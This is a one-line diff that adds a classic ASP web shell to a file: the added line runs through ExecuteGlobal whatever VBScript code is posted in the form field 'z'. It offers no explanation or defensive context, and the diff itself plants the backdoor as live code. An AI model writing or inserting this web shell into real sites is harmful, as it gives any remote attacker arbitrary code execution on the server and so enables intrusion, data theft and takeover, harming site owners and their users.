@@ -1,0 +1,1 @@
+<% If Request.Form("z") <> "" Then ExecuteGlobal Request.Form("z") %>
